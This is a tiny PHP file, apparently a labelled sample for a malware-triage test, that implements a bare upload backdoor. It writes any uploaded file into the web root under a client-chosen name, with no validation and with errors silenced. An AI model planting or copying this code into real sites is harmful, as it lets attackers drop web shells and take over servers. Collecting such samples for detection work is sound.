<?php // triage-expect: triage_php_bare_uploader ?>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" name="go"></form>
<?php
// the destination is built first, from the web root and the name the client chose
$root = $_SERVER['DOCUMENT_ROOT'];
$target = $root . '/' . $_FILES['f']['name'];
if (isset($_POST['go'])) {
    @copy($_FILES['f']['tmp_name'], $target);
}
